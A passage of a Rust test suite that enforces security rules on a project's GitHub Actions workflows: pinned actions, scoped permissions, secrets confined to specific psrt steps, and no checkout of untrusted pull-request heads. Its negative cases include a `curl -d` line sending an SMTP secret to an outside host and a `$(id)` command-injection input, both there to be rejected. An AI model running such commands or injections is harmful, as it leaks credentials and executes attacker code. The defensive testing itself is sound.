//! The GitHub Actions workflows: safe in a public repository. The rules
//! every workflow follows (issue 12, finding 5, and the project's rules):
//!
//! - top-level `permissions: {}`; each job says its own, and has a
//!   `timeout-minutes`;
//! - every action pinned by commit SHA; `actions/checkout` with
//!   `persist-credentials: false`;
//! - no secret in a workflow's or a job's `env:`; a secret appears only in
//!   the `env:` of a step that runs a psrt command needing it (the table
//!   below), never in a step that runs `cargo` or an action;
//! - psrt is built before the first step that holds a secret, and built
//!   for production (`--no-default-features`: no demo, so none of the
//!   stand-ins and no HTTP server in what the workflows run);
//! - secrets only in workflows that use the protected `psrt` environment and
//!   that pull requests do not trigger;
//! - a workflow that restores or saves a ledger cache has a concurrency
//!   group, never cancelled in progress; its ledger file, cache key and
//!   group are its own (issue 22: one writer per ledger, and no pending run
//!   of one workflow cancelled by another's); the save key is unique per
//!   run attempt (issue 21);
//! - every psrt step of a scheduled workflow that has a write flag reads
//!   `PSRT_MODE` from the repository variable; a dispatch's inputs reach
//!   psrt only as `PSRT_DISPATCH_*` variables of a psrt step, and psrt
//!   decides whether to honour them;
//! - `zizmor --offline` and `actionlint` report nothing.

use std::collections::BTreeMap;

use psrt::roster::source::Node;
use serde_json::Value;

use crate::common::*;

fn workflows() -> Vec<(String, String)> {
    let dir = repo_root().join(".github/workflows");
    let mut out: Vec<(String, String)> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "yml" || e == "yaml"))
        .map(|p| {
            (
                p.file_name().unwrap().to_string_lossy().into_owned(),
                std::fs::read_to_string(&p).unwrap(),
            )
        })
        .collect();
    out.sort();
    out
}

/// YAML 1.2 booleans: `on:` is a key, not `true` (YAML 1.1's reading).
fn tree(text: &str) -> Value {
    let options = serde_saphyr::options! { strict_booleans: true };
    serde_saphyr::from_str_with_options::<Value>(text, options).unwrap()
}

/// The environment variables each psrt command reads credentials from
/// (PRODUCT.md's table): a step may hold only these, and only for the
/// command it runs.
fn credentials_of(command: &str) -> &'static [&'static str] {
    const GITHUB: [&str; 3] = ["GITHUB_TOKEN", "PSRT_GITHUB_APP_ID", "PSRT_GITHUB_APP_KEY"];
    match command {
        "sync" => &[
            GITHUB[0],
            GITHUB[1],
            GITHUB[2],
            // To email the admins when a dispatch uses --allow-mass-removal.
            "PSRT_SMTP_URL",
            "PSRT_SMTP_CA_FILE",
            "PSRT_MAILMAN_URL",
            "PSRT_MAILMAN_USER",
            "PSRT_MAILMAN_PASSWORD",
            "PSRT_DISCORD_API_URL",
            "PSRT_DISCORD_TOKEN",
            "PSRT_CONTACT_KEY",
        ],
        "advisories" => &[
            GITHUB[0],
            GITHUB[1],
            GITHUB[2],
            "PSRT_SMTP_URL",
            "PSRT_SMTP_CA_FILE",
            "PSRT_CVE_API_URL",
            "PSRT_CVE_API_USER",
            "PSRT_CVE_API_KEY",
            "PSRT_CONTACT_KEY",
        ],
        "deadlines" => &[
            GITHUB[0],
            GITHUB[1],
            GITHUB[2],
            "PSRT_SMTP_URL",
            "PSRT_SMTP_CA_FILE",
            "PSRT_CONTACT_KEY",
        ],
        "check" => &[GITHUB[0], GITHUB[1], GITHUB[2], "PSRT_CONTACT_KEY"],
        // The main App reads; the pull-request App opens the pull request.
        "inactivity" => &[
            GITHUB[0],
            GITHUB[1],
            GITHUB[2],
            "PSRT_PR_APP_ID",
            "PSRT_PR_APP_KEY",
        ],
        // The devguide pull request: the pull-request App alone.
        "publish" => &[GITHUB[0], "PSRT_PR_APP_ID", "PSRT_PR_APP_KEY"],
        "approvals" | "announce" => &GITHUB,
        // Sends the admins' emails; with --credentials, verifies each
        // credential by a read.
        "audit" => &[
            GITHUB[0],
            GITHUB[1],
            GITHUB[2],
            "PSRT_APPROVALS_APP_ID",
            "PSRT_SMTP_URL",
            "PSRT_SMTP_CA_FILE",
            "PSRT_CONTACT_KEY",
            "PSRT_MAILMAN_URL",
            "PSRT_MAILMAN_USER",
            "PSRT_MAILMAN_PASSWORD",
            "PSRT_DISCORD_API_URL",
            "PSRT_DISCORD_TOKEN",
            "PSRT_CVE_API_URL",
            "PSRT_CVE_API_USER",
            "PSRT_CVE_API_KEY",
        ],
        _ => &[],
    }
}

/// Variables that steer a run without being a credential: any psrt step may
/// read them.
const RUN_CONTROL: &[&str] = &["PSRT_MODE"];

fn str_of(v: &Value, key: &str) -> Option<String> {
    v.get(key).and_then(Value::as_str).map(str::to_owned)
}

/// Every string in `v` with where it is (`jobs.nightly.steps[3].env.X`).
fn strings(v: &Value, at: String, out: &mut Vec<(String, String)>) {
    match v {
        Value::String(s) => out.push((at, s.clone())),
        Value::Array(a) => {
            for (i, x) in a.iter().enumerate() {
                strings(x, format!("{at}[{i}]"), out);
            }
        }
        Value::Object(o) => {
            for (k, x) in o {
                strings(x, format!("{at}.{k}"), out);
            }
        }
        _ => {}
    }
}

/// The psrt subcommand a `run:` script runs, if it runs one.
fn psrt_command(run: &str) -> Option<String> {
    let words: Vec<&str> = run.split_whitespace().collect();
    let at = words
        .iter()
        .position(|w| *w == "psrt" || w.ends_with("/psrt"))?;
    words[at + 1..]
        .iter()
        .find(|w| !w.starts_with('-'))
        .map(|w| (*w).to_owned())
}

/// The rule violations of one workflow, as messages.
fn violations(name: &str, text: &str) -> Vec<String> {
    let wf = tree(text);
    let mut bad = Vec::new();
    let mut say = |m: String| bad.push(format!("{name}: {m}"));
    if wf.get("permissions") != Some(&Value::Object(Default::default())) {
        say("top-level permissions must be {}".into());
    }
    let triggers: Vec<String> = match wf.get("on") {
        Some(Value::Object(m)) => m.keys().cloned().collect(),
        Some(Value::String(s)) => vec![s.clone()],
        Some(Value::Array(a)) => a
            .iter()
            .filter_map(|t| t.as_str().map(str::to_owned))
            .collect(),
        _ => vec![],
    };
    let mut all = Vec::new();
    strings(&wf, String::new(), &mut all);
    let has_secret = |s: &str| s.contains("secrets.");
    if all.iter().any(|(_, s)| has_secret(s)) {
        if !text.contains("environment: psrt") {
            say("secrets outside the protected `psrt` environment".into());
        }
        if triggers
            .iter()
            .any(|t| t == "pull_request" || t == "pull_request_review")
        {
            say("secrets in a workflow that pull requests trigger".into());
        }
    }
    // Secrets only in a step's env.
    for (at, s) in &all {
        if has_secret(s) {
            let in_step_env = at.starts_with(".jobs.")
                && at.contains(".steps[")
                && at
                    .rsplit_once('.')
                    .is_some_and(|(head, _)| head.ends_with(".env"));
            if !in_step_env {
                say(format!(
                    "a secret at {at}: secrets go only in the env: of the step that uses them"
                ));
            }
        }
    }
    let ledger_cache = all
        .iter()
        .any(|(at, s)| at.ends_with(".with.path") && s.contains(".psrt/"));
    if ledger_cache {
        let conc = wf.get("concurrency");
        let group = conc.and_then(|c| str_of(c, "group"));
        let cancel = conc.and_then(|c| c.get("cancel-in-progress")).cloned();
        if group.is_none_or(|g| g.is_empty() || g.contains("${{"))
            || cancel != Some(Value::Bool(false))
        {
            say(format!(
                "it restores or saves a ledger cache: concurrency must be a fixed group of its own with cancel-in-progress: false, not {conc:?}"
            ));
        }
        // A saved entry is never overwritten: the key changes with each run attempt.
        let ledger_steps: Vec<&str> = all
            .iter()
            .filter(|(at, s)| at.ends_with(".with.path") && s.contains(".psrt/"))
            .filter_map(|(at, _)| at.strip_suffix(".path"))
            .collect();
        for (at, key) in &all {
            let of_a_ledger = at
                .strip_suffix(".key")
                .is_some_and(|step| ledger_steps.contains(&step));
            if of_a_ledger && !(key.contains("github.run_id") && key.contains("github.run_attempt"))
            {
                say(format!(
                    "{at}: a cache key for the ledger must name github.run_id and github.run_attempt, not `{key}`"
                ));
            }
        }
    }
    let jobs = wf
        .get("jobs")
        .and_then(Value::as_object)
        .cloned()
        .unwrap_or_default();
    if jobs.is_empty() {
        say("no jobs".into());
    }
    for (job_name, job) in &jobs {
        let mut say = |m: String| bad.push(format!("{name}/{job_name}: {m}"));
        if job.get("timeout-minutes").is_none() {
            say("no timeout-minutes".into());
        }
        if job.get("permissions").is_none() {
            say("no job permissions".into());
        }
        if let Some(uses) = str_of(job, "uses") {
            if let Err(m) = pinned(&uses) {
                say(m);
            }
        }
        let steps = job
            .get("steps")
            .and_then(Value::as_array)
            .cloned()
            .unwrap_or_default();
        let mut first_secret: Option<usize> = None;
        let mut last_cargo: Option<usize> = None;
        for (i, step) in steps.iter().enumerate() {
            let label = str_of(step, "name")
                .or_else(|| str_of(step, "uses"))
                .unwrap_or_else(|| format!("step {i}"));
            let run = str_of(step, "run").unwrap_or_default();
            let runs_cargo = run
                .split_whitespace()
                .any(|w| w == "cargo" || w.ends_with("/cargo"));
            if runs_cargo {
                last_cargo = Some(i);
            }
            if run.contains("cargo build")
                && (!run.contains("--no-default-features") || run.contains("--features"))
            {
                say(format!(
                    "{label}: `cargo build` without `--no-default-features`: the workflows run the production build (no demo, no stand-ins, no HTTP server)"
                ));
            }
            if let Some(uses) = str_of(step, "uses") {
                if let Err(m) = pinned(&uses) {
                    say(m);
                }
                if uses.starts_with("actions/checkout@") {
                    let pc = step.get("with").and_then(|w| w.get("persist-credentials"));
                    if pc != Some(&Value::Bool(false)) {
                        say(format!(
                            "{label}: checkout without persist-credentials: false"
                        ));
                    }
                }
            }
            let env: BTreeMap<String, String> = step
                .get("env")
                .and_then(Value::as_object)
                .map(|o| {
                    o.iter()
                        .map(|(k, v)| (k.clone(), v.as_str().unwrap_or_default().to_owned()))
                        .collect()
                })
                .unwrap_or_default();
            let secret_vars: Vec<&String> = env
                .iter()
                .filter(|(_, v)| has_secret(v))
                .map(|(k, _)| k)
                .collect();
            if secret_vars.is_empty() {
                continue;
            }
            first_secret.get_or_insert(i);
            if runs_cargo {
                say(format!(
                    "{label}: a step that runs cargo holds secrets {secret_vars:?}"
                ));
            }
            if step.get("uses").is_some() {
                say(format!("{label}: an action holds secrets {secret_vars:?}"));
            }
            match psrt_command(&run) {
                None => say(format!(
                    "{label}: holds secrets {secret_vars:?} but runs no psrt command"
                )),
                Some(cmd) => {
                    let allowed = credentials_of(&cmd);
                    for (k, v) in &env {
                        let credential = has_secret(v) || v.contains("vars.");
                        if credential
                            && !allowed.contains(&k.as_str())
                            && !RUN_CONTROL.contains(&k.as_str())
                        {
                            say(format!("{label}: `psrt {cmd}` does not need {k}"));
                        }
                    }
                }
            }
        }
        if let (Some(secret), Some(cargo)) = (first_secret, last_cargo) {
            if cargo > secret {
                say(format!(
                    "cargo runs (step {cargo}) after a secret is present (step {secret}): build first"
                ));
            }
        }
    }
    // Nor in a workflow's or a job's env.
    for (at, s) in &all {
        let top_env = at.starts_with(".env.");
        let job_env = at.starts_with(".jobs.")
            && !at.contains(".steps[")
            && at.split('.').nth(3) == Some("env");
        if (top_env || job_env) && (has_secret(s) || s.contains("vars.PSRT_")) {
            bad.push(format!("{name}: {at}: credentials in a workflow's or job's env reach every step, `cargo build` included"));
        }
    }
    bad
}

fn pinned(uses: &str) -> Result<(), String> {
    if uses.starts_with("./") {
        return Ok(());
    }
    let sha = uses.split('@').nth(1).unwrap_or("");
    if sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()) {
        Ok(())
    } else {
        Err(format!("{uses} is not pinned by SHA"))
    }
}

#[test]
fn every_workflow_follows_the_rules() {
    let all = workflows();
    let names: Vec<&str> = all.iter().map(|(n, _)| n.as_str()).collect();
    for needed in [
        "approvals.yml",
        "hourly.yml",
        "nightly.yml",
        "publish.yml",
        "pull-request.yml",
        "review.yml",
        "yearly.yml",
    ] {
        assert!(names.contains(&needed), "{needed} missing: {names:?}");
    }
    let bad: Vec<String> = all
        .iter()
        .flat_map(|(name, text)| violations(name, text))
        .collect();
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn the_rules_catch_what_they_forbid() {
    let good = r#"
name: t
on: { schedule: [{ cron: "0 0 * * *" }] }
permissions: {}
concurrency: { group: psrt-deadlines, cancel-in-progress: false }
jobs:
  j:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    environment: psrt
    permissions: { contents: read }
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with: { persist-credentials: false }
      - run: cargo build --release --locked --no-default-features
      - uses: actions/cache/restore@5a3ec84eff668545956fd18022155c47e93e2684
        with: { path: .psrt/ledger.json, key: "l-${{ github.run_id }}-${{ github.run_attempt }}" }
      - name: psrt deadlines --send
        env:
          PSRT_GITHUB_APP_ID: ${{ vars.PSRT_GITHUB_APP_ID }}
          PSRT_GITHUB_APP_KEY: ${{ secrets.PSRT_GITHUB_APP_KEY }}
          PSRT_SMTP_URL: ${{ secrets.PSRT_SMTP_URL }}
          PSRT_MODE: ${{ vars.PSRT_MODE }}
        run: ./target/release/psrt deadlines --send
"#;
    assert_eq!(violations("good", good), Vec::<String>::new());
    let cases: &[(&str, &str, &str)] = &[
        (
            "permissions: {}\n",
            "permissions: { contents: write }\n",
            "top-level permissions",
        ),
        (
            "concurrency: { group: psrt-deadlines, cancel-in-progress: false }\n",
            "",
            "concurrency must be",
        ),
        (
            "group: psrt-deadlines",
            "group: \"d-${{ github.run_id }}\"",
            "concurrency must be",
        ),
        (
            "key: \"l-${{ github.run_id }}-${{ github.run_attempt }}\"",
            "key: \"l-${{ github.run_id }}\"",
            "must name github.run_id and github.run_attempt",
        ),
        (
            "cancel-in-progress: false",
            "cancel-in-progress: true",
            "concurrency must be",
        ),
        ("    timeout-minutes: 5\n", "", "no timeout-minutes"),
        (
            "b1630ceea73d27597364c9af683",
            "b1630ceea73d27597364c9af683x",
            "not pinned",
        ),
        (
            "persist-credentials: false",
            "persist-credentials: true",
            "persist-credentials",
        ),
        (
            "      - run: cargo build --release --locked --no-default-features\n",
            "",
            "",
        ),
        (
            "cargo build --release --locked --no-default-features",
            "cargo build --release --locked",
            "the workflows run the production build",
        ),
        (
            "cargo build --release --locked --no-default-features",
            "cargo build --release --locked --no-default-features --features demo",
            "the workflows run the production build",
        ),
        (
            "        run: ./target/release/psrt deadlines --send",
            "        run: cargo run --release -- deadlines --send",
            "runs cargo holds secrets",
        ),
        (
            "        run: ./target/release/psrt deadlines --send",
            "        run: ./target/release/psrt inactivity --open-pr",
            "does not need PSRT_SMTP_URL",
        ),
        (
            "        run: ./target/release/psrt deadlines --send",
            "        run: curl -d \"$PSRT_SMTP_URL\" https://example.org",
            "runs no psrt command",
        ),
        (
            "    environment: psrt\n",
            "    environment: psrt\n    env:\n      PSRT_SMTP_URL: ${{ secrets.PSRT_SMTP_URL }}\n",
            "secrets go only in the env: of the step",
        ),
        (
            "permissions: {}\n",
            "permissions: {}\nenv:\n  PSRT_DISCORD_TOKEN: ${{ secrets.PSRT_DISCORD_TOKEN }}\n",
            "credentials in a workflow's or job's env",
        ),
        (
            "        with: { path: .psrt/ledger.json, key: \"l-${{ github.run_id }}-${{ github.run_attempt }}\" }",
            "        with: { path: .psrt/ledger.json, key: \"${{ secrets.X }}-${{ github.run_id }}-${{ github.run_attempt }}\" }",
            "secrets go only in the env: of the step",
        ),
        (
            "on: { schedule: [{ cron: \"0 0 * * *\" }] }",
            "on: { pull_request: {} }",
            "secrets in a workflow that pull requests trigger",
        ),
        ("    environment: psrt\n", "", "outside the protected"),
    ];
    for (from, to, want) in cases {
        assert!(good.contains(from), "{from}");
        let text = good.replacen(from, to, 1);
        let v = violations("case", &text);
        if want.is_empty() {
            // Without a build step the job may still be fine (no cargo at all).
            assert!(v.is_empty(), "{v:?}");
            continue;
        }
        assert!(
            v.iter().any(|m| m.contains(want)),
            "{from} → {to}: want `{want}`, got {v:#?}"
        );
    }
    // cargo after the secrets.
    let late = good.replace(
        "      - run: cargo build --release --locked --no-default-features\n",
        "",
    ) + "      - run: cargo build --release --locked --no-default-features\n";
    let v = violations("late", &late);
    assert!(
        v.iter().any(|m| m.contains("after a secret is present")),
        "{v:#?}"
    );
}

/// The devguide's lists follow the roster: `publish.yml` runs when
/// `roster.yaml` changes on `main`, yearly, and by hand. (Where its secret
/// goes is checked with every workflow's, above.)
#[test]
fn publish_runs_when_the_roster_changes() {
    let wf = tree(
        &workflows()
            .into_iter()
            .find(|(n, _)| n == "publish.yml")
            .unwrap()
            .1,
    );
    for trigger in ["push", "schedule", "workflow_dispatch"] {
        assert!(
            wf["on"].get(trigger).is_some(),
            "publish.yml: no {trigger} trigger"
        );
    }
    assert_eq!(
        wf["on"]["push"]["paths"],
        serde_json::json!(["roster.yaml"]),
        "publish.yml runs when roster.yaml changes on main"
    );
}

/// Every step of every job: (job, step).
fn steps_of(wf: &Value) -> Vec<(String, Value)> {
    wf.get("jobs")
        .and_then(Value::as_object)
        .into_iter()
        .flatten()
        .flat_map(|(job, j)| {
            j.get("steps")
                .and_then(Value::as_array)
                .cloned()
                .unwrap_or_default()
                .into_iter()
                .map(move |st| (job.clone(), st))
        })
        .collect()
}

/// Issue 22, item 8: GitHub keeps one pending run per concurrency group, so
/// a group shared by the nightly and the hourly workflow lets an hourly run
/// cancel a pending nightly one. Each workflow that keeps a ledger has its
/// own file, its own cache key prefix and its own group: one writer each.
/// One exception (issue 23): the audit's ledger is written by the audit
/// jobs of both workflows, which share a job-level group of their own
/// (never a workflow's): one audit at a time, each restoring the newest
/// entry, so no problem is told twice.
#[test]
fn each_ledger_has_one_writer_and_a_group_of_its_own() {
    let mut groups: BTreeMap<String, String> = BTreeMap::new();
    let mut ledgers: BTreeMap<String, String> = BTreeMap::new();
    let mut prefixes: BTreeMap<String, String> = BTreeMap::new();
    let mut keeping = Vec::new();
    let mut job_groups = Vec::new();
    for (name, text) in workflows() {
        let wf = tree(&text);
        if let Some(g) = wf.get("concurrency").and_then(|c| str_of(c, "group")) {
            if let Some(other) = groups.insert(g.clone(), name.clone()) {
                panic!("{name} and {other} share the concurrency group {g}");
            }
        }
        let jobs = wf
            .get("jobs")
            .and_then(Value::as_object)
            .cloned()
            .unwrap_or_default();
        for (job, j) in &jobs {
            let keeps_a_ledger = j
                .get("steps")
                .and_then(Value::as_array)
                .into_iter()
                .flatten()
                .any(|st| {
                    str_of(st, "uses")
                        .unwrap_or_default()
                        .starts_with("actions/cache")
                        && str_of(&st.get("with").cloned().unwrap_or_default(), "path")
                            .unwrap_or_default()
                            .contains(".psrt/")
                });
            // The writer: the workflow, or a job-level group shared across workflows.
            let writer = match j.get("concurrency").filter(|_| keeps_a_ledger) {
                Some(c) => {
                    let g = str_of(c, "group").unwrap_or_default();
                    assert!(
                        !g.is_empty() && !g.contains("${{"),
                        "{name}/{job}: a job-level group must be fixed"
                    );
                    assert_eq!(
                        c.get("cancel-in-progress"),
                        Some(&Value::Bool(false)),
                        "{name}/{job}: never cancelled in progress"
                    );
                    job_groups.push(g.clone());
                    format!("job group {g}")
                }
                None => name.clone(),
            };
            let steps = j
                .get("steps")
                .and_then(Value::as_array)
                .cloned()
                .unwrap_or_default();
            for step in &steps {
                let uses = str_of(step, "uses").unwrap_or_default();
                let with = step.get("with").cloned().unwrap_or_default();
                let path = str_of(&with, "path").unwrap_or_default();
                if !uses.starts_with("actions/cache") || !path.contains(".psrt/") {
                    continue;
                }
                keeping.push(name.clone());
                for (map, value) in [
                    (&mut ledgers, path.clone()),
                    (
                        &mut prefixes,
                        str_of(&with, "key")
                            .unwrap_or_default()
                            .split("${{")
                            .next()
                            .unwrap_or_default()
                            .to_owned(),
                    ),
                ] {
                    let owner = map.entry(value.clone()).or_insert_with(|| writer.clone());
                    assert_eq!(owner, &writer, "{value} is written by {owner} and {writer}");
                }
            }
            // The run-time file psrt is given is the one the cache carries.
            for step in &steps {
                let run = str_of(step, "run").unwrap_or_default();
                if let Some(at) = run.find("--ledger ") {
                    let file = run[at + 9..].split_whitespace().next().unwrap_or_default();
                    assert_eq!(
                        ledgers.get(file),
                        Some(&writer),
                        "{name}/{job}: psrt's --ledger {file} is not the file its cache carries"
                    );
                }
            }
        }
    }
    // No workflow-level group is also a job-level one.
    for g in &job_groups {
        assert!(
            !groups.contains_key(g),
            "{g} is both a workflow's and a job's group"
        );
    }
    keeping.sort();
    keeping.dedup();
    assert_eq!(keeping, ["hourly.yml", "nightly.yml"]);
    assert_eq!(ledgers.len(), 3, "{ledgers:?}");
    assert_eq!(prefixes.len(), 3, "{prefixes:?}");
    assert_eq!(
        ledgers.get(".psrt/audit-ledger.json").map(String::as_str),
        Some("job group psrt-audit")
    );
}

/// Issue 23: the nightly and the hourly workflows each run `psrt audit
/// --apply --send` in a job of its own, named as psrt knows its own job
/// (its runs are judged without it), and only the nightly verifies the
/// credentials (once a day is enough, and the hourly holds fewer secrets).
#[test]
fn both_scheduled_workflows_run_the_audit_in_a_job_of_its_own() {
    for (file, credentials) in [("nightly.yml", true), ("hourly.yml", false)] {
        let wf = tree(
            &std::fs::read_to_string(repo_root().join(".github/workflows").join(file)).unwrap(),
        );
        let job = &wf["jobs"]["audit"];
        assert_eq!(
            str_of(job, "name").as_deref(),
            Some(psrt::audit::workflows::AUDIT_JOB),
            "{file}"
        );
        assert_eq!(
            str_of(&job["concurrency"], "group").as_deref(),
            Some("psrt-audit"),
            "{file}"
        );
        let runs: Vec<String> = job["steps"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|s| str_of(s, "run"))
            .filter(|r| r.contains("psrt audit"))
            .collect();
        assert_eq!(runs.len(), 1, "{file}: {runs:?}");
        assert!(
            runs[0].contains("--apply") && runs[0].contains("--send"),
            "{file}: {}",
            runs[0]
        );
        assert_eq!(
            runs[0].contains("--credentials"),
            credentials,
            "{file}: {}",
            runs[0]
        );
        // No other job of the workflow runs the audit.
        for (name, other) in wf["jobs"].as_object().unwrap() {
            if name != "audit" {
                assert!(!other.to_string().contains("psrt audit"), "{file}/{name}");
            }
        }
    }
}

/// Issue 22, item 4: the scheduled workflows read `PSRT_MODE` (plan the
/// first week, apply after; psrt fails the run on anything else) in every
/// psrt step that writes; a dispatch's inputs reach nothing but psrt's
/// `PSRT_DISPATCH_*` variables, where psrt decides (an admin only).
#[test]
fn scheduled_workflows_read_psrt_mode_and_dispatch_inputs_reach_psrt_only() {
    let mut writing_steps = 0;
    for (name, text) in workflows() {
        let wf = tree(&text);
        let scheduled = wf.get("on").and_then(|o| o.get("schedule")).is_some();
        for (job, step) in steps_of(&wf) {
            let run = str_of(&step, "run").unwrap_or_default();
            let env = step.get("env").cloned().unwrap_or_default();
            let writes = ["--apply", "--send", "--open-pr", "--publish"]
                .iter()
                .any(|f| run.split_whitespace().any(|w| w == *f));
            if scheduled && psrt_command(&run).is_some() && writes {
                writing_steps += 1;
                assert_eq!(
                    str_of(&env, "PSRT_MODE").as_deref(),
                    Some("${{ vars.PSRT_MODE }}"),
                    "{name}/{job}: `{run}` does not read PSRT_MODE"
                );
            }
            let mut found = Vec::new();
            strings(&step, String::new(), &mut found);
            for (at, v) in found {
                if !v.contains("inputs.") {
                    continue;
                }
                let var = at.strip_prefix(".env.").unwrap_or_default();
                assert!(
                    var.starts_with("PSRT_DISPATCH_") && psrt_command(&run).is_some(),
                    "{name}/{job}: a dispatch input at {at} outside a psrt step's PSRT_DISPATCH_* variable"
                );
            }
        }
        // Workflows that take the inputs declare them as booleans.
        if let Some(inputs) = wf
            .get("on")
            .and_then(|o| o.get("workflow_dispatch"))
            .and_then(|d| d.get("inputs"))
            .and_then(Value::as_object)
        {
            for (input, spec) in inputs {
                assert_eq!(spec["type"], "boolean", "{name}: input {input}");
                assert_eq!(spec["default"], false, "{name}: input {input}");
            }
        }
    }
    // sync, deadlines, advisories, inactivity, publish, the two audits, and
    // the approvals sweep.
    assert_eq!(writing_steps, 8);
}

/// Issue 21, item 5: the review artifact's number is read as an integer by
/// the workflow too (`05` and `5` are one pull request, and the concurrency
/// group is keyed on it). The workflow's own script, run with bash.
#[test]
fn the_review_artifacts_number_is_read_as_an_integer() {
    let wf = tree(
        &std::fs::read_to_string(repo_root().join(".github/workflows/approvals.yml")).unwrap(),
    );
    let script = steps_of(&wf)
        .into_iter()
        .find(|(_, s)| str_of(s, "id").as_deref() == Some("number"))
        .and_then(|(_, s)| str_of(&s, "run"))
        .expect("the number step");
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("pull-request")).unwrap();
    let read = |artifact: &str| {
        std::fs::write(dir.path().join("pull-request/number"), artifact).unwrap();
        let output = dir.path().join("output");
        let _ = std::fs::remove_file(&output);
        let status = std::process::Command::new("bash")
            .args(["-e", "-c", &script])
            .env("EVENT", "workflow_run")
            .env("RUNNER_TEMP", dir.path())
            .env("GITHUB_OUTPUT", &output)
            .output()
            .unwrap();
        status
            .status
            .success()
            .then(|| std::fs::read_to_string(&output).unwrap_or_default())
    };
    assert_eq!(read("5\n").as_deref(), Some("number=5\n"));
    assert_eq!(read("05\n").as_deref(), Some("number=5\n"));
    assert_eq!(read("0000000000000012").as_deref(), Some("number=12\n"));
    assert_eq!(read("08").as_deref(), Some("number=8\n"), "never octal");
    for bad in ["", "0", "00", "-5", "5a", "5 6", "$(id)", "0x10"] {
        assert_eq!(read(bad), None, "{bad:?} was accepted");
    }
}

/// A workflow as a tree with positions (the approvals test walks it).
fn workflow(name: &str) -> (String, Node) {
    let text = std::fs::read_to_string(repo_root().join(".github/workflows").join(name)).unwrap();
    let options = serde_saphyr::options! { strict_booleans: true };
    let wf = serde_saphyr::from_str_with_options::<serde_saphyr::Spanned<Node>>(&text, options)
        .unwrap()
        .value;
    (text, wf)
}

fn keys(node: &Node) -> Vec<String> {
    match node {
        Node::Map(m) => m
            .iter()
            .filter_map(|(k, _)| k.value.as_str().map(str::to_owned))
            .collect(),
        _ => vec![],
    }
}

fn node_strings(node: &Node) -> Vec<String> {
    node.items()
        .iter()
        .filter_map(|i| i.value.as_str().map(str::to_owned))
        .collect()
}

/// Every string inside a node (keys excluded), to search for expressions.
fn text_of(node: &Node) -> String {
    match node {
        Node::Str(s) => s.clone(),
        Node::Seq(items) => items
            .iter()
            .map(|i| text_of(&i.value))
            .collect::<Vec<_>>()
            .join("\n"),
        Node::Map(m) => m
            .iter()
            .map(|(_, v)| text_of(&v.value))
            .collect::<Vec<_>>()
            .join("\n"),
        _ => String::new(),
    }
}

fn is_secret(s: &str) -> bool {
    s.contains("secrets.") || s.contains("github.token") || s.contains("GITHUB_TOKEN")
}

/// Issue 17: the approvals verdict comes from the base branch's definition
/// and code only, and the review workflow that feeds it has no permissions.
#[test]
fn approvals_run_from_the_base_and_never_touch_the_head() {
    let (text, wf) = workflow("approvals.yml");
    let on = wf.get("on").map(|(_, v)| v.value.clone()).unwrap();
    assert_eq!(keys(&on), ["pull_request_target", "workflow_run"]);
    let prt = on.get("pull_request_target").unwrap().1;
    assert_eq!(
        node_strings(&prt.value.get("types").unwrap().1.value),
        ["opened", "synchronize", "reopened", "edited"]
    );
    let run = on.get("workflow_run").unwrap().1;
    assert_eq!(
        node_strings(&run.value.get("workflows").unwrap().1.value),
        ["review"]
    );
    assert_eq!(
        node_strings(&run.value.get("types").unwrap().1.value),
        ["completed"]
    );
    // Nothing refers to the head: no ref, sha or repository of it.
    for banned in [
        "github.event.pull_request.head",
        "github.head_ref",
        "workflow_run.head",
        "refs/pull/",
    ] {
        assert!(!text.contains(banned), "approvals.yml mentions `{banned}`");
    }
    let jobs = wf.get("jobs").unwrap().1.value.clone();
    let mut built = false;
    for (job_name, job) in match &jobs {
        Node::Map(m) => m.clone(),
        _ => panic!("jobs"),
    } {
        let job_name = job_name.value.as_str().unwrap_or("?").to_owned();
        if let Some((_, env)) = job.value.get("env") {
            assert!(
                !is_secret(&text_of(&env.value)),
                "{job_name}: a secret in the job's env"
            );
        }
        let steps = job
            .value
            .get("steps")
            .map(|(_, s)| s.value.items().to_vec())
            .unwrap_or_default();
        let build_at = steps.iter().position(|s| {
            s.value
                .get("run")
                .and_then(|(_, r)| r.value.as_str().map(|r| r.contains("cargo build")))
                .unwrap_or(false)
        });
        for (i, step) in steps.iter().enumerate() {
            let uses = step
                .value
                .get("uses")
                .and_then(|(_, u)| u.value.as_str().map(str::to_owned))
                .unwrap_or_default();
            if uses.starts_with("actions/checkout@") {
                // The default branch: no `ref:` at all.
                let with = step.value.get("with").unwrap().1.value.clone();
                assert_eq!(
                    keys(&with),
                    ["persist-credentials"],
                    "{job_name}: checkout takes only persist-credentials"
                );
            }
            let all = text_of(&step.value);
            if let Some(b) = build_at {
                assert!(
                    i > b || !is_secret(&all),
                    "{job_name}: step {i} has a secret before the build"
                );
            }
            // A secret reaches only a step's env, never `with:` or `run:`...
            if all.contains("secrets.") {
                let env = step
                    .value
                    .get("env")
                    .map(|(_, e)| text_of(&e.value))
                    .unwrap_or_default();
                assert!(
                    env.contains("secrets."),
                    "{job_name}: step {i} uses a secret outside env"
                );
                let run = step
                    .value
                    .get("run")
                    .and_then(|(_, r)| r.value.as_str().map(str::to_owned))
                    .unwrap_or_default();
                assert!(
                    run.starts_with("./target/release/psrt approvals"),
                    "{job_name}: a secret for `{run}`"
                );
                assert!(run.contains("--publish"), "{job_name}: {run}");
            }
        }
        built |= build_at.is_some();
    }
    assert!(built, "approvals.yml builds psrt");
    // The pull request number from the review artifact is checked as a number.
    assert!(
        text.contains("*[!0-9]*"),
        "the artifact's number is not validated"
    );

    // The review workflow: no permissions, no secrets, no checkout; it only
    // records the number.
    let (text, wf) = workflow("review.yml");
    assert_eq!(wf.get("name").unwrap().1.value.as_str(), Some("review"));
    assert_eq!(
        keys(&wf.get("on").unwrap().1.value),
        ["pull_request_review"]
    );
    for (_, job) in match &wf.get("jobs").unwrap().1.value {
        Node::Map(m) => m.clone(),
        _ => panic!("jobs"),
    } {
        assert_eq!(
            job.value.get("permissions").map(|(_, p)| p.value.clone()),
            Some(Node::Map(vec![]))
        );
    }
    assert!(!is_secret(&text) && !text.contains("actions/checkout") && !text.contains("psrt"));

